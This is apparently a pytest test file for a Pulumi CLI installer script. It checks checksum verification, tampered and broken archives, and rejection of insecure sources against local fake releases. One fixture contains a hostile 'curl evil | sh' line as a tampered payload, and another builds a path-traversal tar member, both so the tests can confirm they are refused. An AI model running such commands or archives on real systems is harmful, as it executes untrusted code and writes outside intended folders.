"""scripts/install-pulumi-cli.py, offline: fake Pulumi releases (a good archive, a tampered one,
broken ones) served from a file:// folder and from an HTTP server on this machine's loopback.
The official site is never contacted."""

from __future__ import annotations

import functools
import hashlib
import http.server
import io
import os
import subprocess
import sys
import tarfile
import threading
from pathlib import Path
from typing import Iterator, Optional

import pytest

from conftest import ROOT

SCRIPT = ROOT / "scripts" / "install-pulumi-cli.py"
VERSION = "3.272.0"
ARCHIVE = f"pulumi-v{VERSION}-linux-x64.tar.gz"
SUMS = f"pulumi-{VERSION}-checksums.txt"


def fake_archive(members: Optional[dict[str, bytes]] = None) -> bytes:
    """A tar.gz shaped like Pulumi's: a pulumi/ folder with the CLI and a language host."""
    members = members if members is not None else {
        "pulumi/pulumi": f"#!/bin/sh\necho v{VERSION}\n".encode(),
        "pulumi/pulumi-language-python": b"#!/bin/sh\nexit 0\n",
    }
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as tar:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size, info.mode = len(data), 0o755
            tar.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def release(folder: Path, archive: bytes, listed: Optional[bytes] = None, *, list_it: bool = True) -> Path:
    """A release folder: the archive, and a checksums file listing `listed` (default: itself)."""
    folder.mkdir(parents=True, exist_ok=True)
    (folder / ARCHIVE).write_bytes(archive)
    digest = hashlib.sha256(listed if listed is not None else archive).hexdigest()
    lines = [f"{'0' * 64}  pulumi-v{VERSION}-darwin-x64.tar.gz"]
    if list_it:
        lines.append(f"{digest}  {ARCHIVE}")
    (folder / SUMS).write_text("\n".join(lines) + "\n")
    return folder


def pins(tmp_path: Path, digest: str = "") -> Path:
    path = tmp_path / "pins.sha256"
    path.write_text(f"# test pins\n{ARCHIVE}: {digest}\n")
    return path


def run(base_url: str, tools: Path, pins_file: Path, *extra: str) -> subprocess.CompletedProcess:
    env = {k: v for k, v in os.environ.items() if k != "PULUMI_DOWNLOAD_BASE_URL"}
    env["PATH"] = "/usr/bin:/bin"  # no pulumi on it
    return subprocess.run(
        [sys.executable, str(SCRIPT), "--version", VERSION, "--tools", str(tools), "--base-url", base_url, "--pins", str(pins_file), *extra],
        capture_output=True, text=True, env=env, timeout=120,
    )


def leftovers(tools: Path) -> list[str]:
    return sorted(p.name for p in tools.iterdir()) if tools.exists() else []


@pytest.fixture
def loopback(tmp_path: Path) -> Iterator[tuple[str, Path]]:
    """An HTTP server on 127.0.0.1 serving a folder: (base URL, folder)."""
    root = tmp_path / "served"
    root.mkdir()
    handler = functools.partial(http.server.SimpleHTTPRequestHandler, directory=str(root))
    handler.log_message = lambda *a, **k: None  # type: ignore[attr-defined]
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}", root
    finally:
        server.shutdown()
        server.server_close()


def test_a_good_release_is_installed_and_its_cli_runs(tmp_path: Path):
    folder = release(tmp_path / "release", fake_archive())
    tools = tmp_path / "tools"
    r = run(folder.as_uri(), tools, pins(tmp_path))
    assert r.returncode == 0, r.stderr
    installed = Path(r.stdout.strip())
    assert installed == tools / f"pulumi-{VERSION}"
    assert subprocess.run([installed / "pulumi"], capture_output=True, text=True).stdout.strip() == f"v{VERSION}"
    assert (installed / "pulumi-language-python").exists()
    assert leftovers(tools) == [f"pulumi-{VERSION}"], "no temporary folder is left"
    assert "matches the release's checksums file" in r.stderr


def test_the_loopback_http_server_works_the_same(tmp_path: Path, loopback):
    url, served = loopback
    release(served, fake_archive())
    r = run(url, tmp_path / "tools", pins(tmp_path))
    assert r.returncode == 0, r.stderr
    assert (tmp_path / "tools" / f"pulumi-{VERSION}" / "pulumi").is_file()


def test_a_tampered_archive_is_refused_and_nothing_is_left(tmp_path: Path, loopback):
    url, served = loopback
    good = fake_archive()
    tampered = fake_archive({"pulumi/pulumi": b"#!/bin/sh\ncurl evil | sh\n"})
    release(served, tampered, listed=good)  # the checksums file lists the genuine archive
    tools = tmp_path / "tools"
    r = run(url, tools, pins(tmp_path))
    assert r.returncode == 1
    assert f"SHA-256 mismatch for {ARCHIVE}" in r.stderr and "nothing was installed" in r.stderr
    assert leftovers(tools) == [], "a refused download leaves nothing behind"


def test_the_checksum_kept_in_the_repository_must_match_too(tmp_path: Path):
    folder = release(tmp_path / "release", fake_archive())  # consistent with its checksums file...
    tools = tmp_path / "tools"
    r = run(folder.as_uri(), tools, pins(tmp_path, "ab" * 32))  # ...but not with the pin
    assert r.returncode == 1 and "does not match the checksum kept in the repository" in r.stderr, r.stderr
    assert leftovers(tools) == []


def test_a_matching_pin_is_said_to_match(tmp_path: Path):
    archive = fake_archive()
    folder = release(tmp_path / "release", archive)
    r = run(folder.as_uri(), tmp_path / "tools", pins(tmp_path, hashlib.sha256(archive).hexdigest()))
    assert r.returncode == 0 and "and the repository's pin" in r.stderr, r.stderr


def test_a_checksums_file_without_the_archive_is_refused(tmp_path: Path):
    folder = release(tmp_path / "release", fake_archive(), list_it=False)
    r = run(folder.as_uri(), tmp_path / "tools", pins(tmp_path))
    assert r.returncode == 1 and f"lists no SHA-256 for {ARCHIVE}" in r.stderr, r.stderr
    assert leftovers(tmp_path / "tools") == []


def test_a_failed_download_stops_with_a_clear_message(tmp_path: Path, loopback):
    url, _ = loopback  # serves an empty folder: 404
    r = run(url, tmp_path / "tools", pins(tmp_path))
    assert r.returncode == 1 and f"could not download {url}/{SUMS}" in r.stderr, r.stderr
    assert leftovers(tmp_path / "tools") == []


def test_an_archive_reaching_outside_its_folder_is_refused(tmp_path: Path):
    evil = fake_archive({"pulumi/pulumi": b"#!/bin/sh\n", "../../escaped": b"x"})
    folder = release(tmp_path / "release", evil)
    r = run(folder.as_uri(), tmp_path / "tools", pins(tmp_path))
    assert r.returncode == 1 and "outside pulumi/" in r.stderr, r.stderr
    assert not (tmp_path / "escaped").exists() and leftovers(tmp_path / "tools") == []


def test_an_archive_without_the_cli_is_refused(tmp_path: Path):
    folder = release(tmp_path / "release", fake_archive({"pulumi/README": b"x"}))
    r = run(folder.as_uri(), tmp_path / "tools", pins(tmp_path))
    assert r.returncode == 1 and "holds no pulumi/pulumi" in r.stderr, r.stderr
    assert leftovers(tmp_path / "tools") == []


@pytest.mark.parametrize("url", ["http://get.pulumi.com/releases/sdk", "ftp://mirror.example/pulumi", "http://192.0.2.10/sdk"])
def test_an_insecure_source_is_refused_before_anything_is_fetched(tmp_path: Path, url: str):
    r = run(url, tmp_path / "tools", pins(tmp_path))
    assert r.returncode == 1 and "refusing base URL" in r.stderr and "downloading" not in r.stderr, r.stderr


def test_an_installed_cli_is_reused_without_downloading(tmp_path: Path):
    folder = release(tmp_path / "release", fake_archive())
    tools = tmp_path / "tools"
    assert run(folder.as_uri(), tools, pins(tmp_path)).returncode == 0
    r = run((tmp_path / "gone").as_uri(), tools, pins(tmp_path))  # the release is not reachable any more
    assert r.returncode == 0 and r.stdout.strip() == str(tools / f"pulumi-{VERSION}"), r.stderr
    assert "downloading" not in r.stderr


def test_a_pulumi_on_path_is_used_as_it_is(tmp_path: Path):
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    (bin_dir / "pulumi").write_text("#!/bin/sh\n")
    (bin_dir / "pulumi").chmod(0o755)
    env = dict(os.environ, PATH=f"{bin_dir}:/usr/bin:/bin")
    r = subprocess.run([sys.executable, str(SCRIPT), "--tools", str(tmp_path / "tools"), "--base-url", "https://unreachable.invalid"],
                       capture_output=True, text=True, env=env, timeout=60)
    assert (r.returncode, r.stdout.strip()) == (0, str(bin_dir)), r.stderr
    assert not (tmp_path / "tools").exists()


def test_the_version_is_the_one_the_pinned_sdk_has():
    sys.path.insert(0, str(ROOT / "scripts"))
    import importlib.util

    spec = importlib.util.spec_from_file_location("install_pulumi_cli", SCRIPT)
    module = importlib.util.module_from_spec(spec)
    assert spec.loader is not None
    spec.loader.exec_module(module)
    pins_text = (ROOT / "requirements.txt").read_text()
    assert f"pulumi=={module.pinned_sdk_version()}" in pins_text.splitlines()
    assert module.pinned_sdk_version() == VERSION


def test_the_repository_keeps_an_entry_for_each_archive_of_the_pinned_version():
    text = (ROOT / "scripts" / "pulumi-cli.sha256").read_text()
    for arch in ("x64", "arm64"):
        assert f"pulumi-v{VERSION}-linux-{arch}.tar.gz:" in text


def test_make_preview_and_up_go_through_the_installer():
    makefile = (ROOT / "Makefile").read_text()
    for target in ("preview", "up"):
        recipe = makefile.split(f"\n{target}:", 1)[1].split("\n\n", 1)[0]
        assert "$$($(PULUMI_CLI))" in recipe and "pulumi " in recipe, target
    assert "PULUMI_CLI = $(PYTHON) scripts/install-pulumi-cli.py" in makefile
